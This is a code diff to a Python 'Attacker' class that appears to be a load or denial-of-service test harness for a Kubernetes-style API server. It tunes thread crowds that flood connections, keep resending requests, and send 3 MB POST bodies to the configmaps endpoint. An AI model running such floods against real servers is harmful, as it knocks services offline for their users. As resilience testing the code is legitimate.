@@ -82,14 +82,15 @@ class Attacker:
     def left(self):
         return self.end - time.monotonic()
 
-    def crowd(self, n, one):
-        """n threads that call one() again and again."""
+    def crowd(self, n, one, pause=0.05):
+        """n threads that call one() again and again. The pause keeps an attack from being one of handshakes above all."""
         def run():
             while self.left() > 0:
                 try:
                     one()
                 except OSError:
-                    time.sleep(0.05)
+                    pass
+                time.sleep(pause)
         threads = [threading.Thread(target=run, daemon=True) for _ in range(n)]
         for thread in threads:
             thread.start()
@@ -115,7 +116,8 @@ class Attacker:
             with self.connect() as sock:
                 sock.settimeout(120)
                 sock.sendall(text)
-                sock.recv(65536)
+                while sock.recv(65536):
+                    sock.sendall(text)
         self.crowd(48, one)
 
     def heads(self):
@@ -137,7 +139,7 @@ class Attacker:
                 sock.sendall(b"POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
                              b"Content-Length: 3145728\r\n\r\n" + b" " * 3145727)
                 sock.recv(65536)
-        self.crowd(112, one)
+        self.crowd(112, one, pause=1)
 
     def idle_tls(self):
         """TLS connections that ask nothing."""
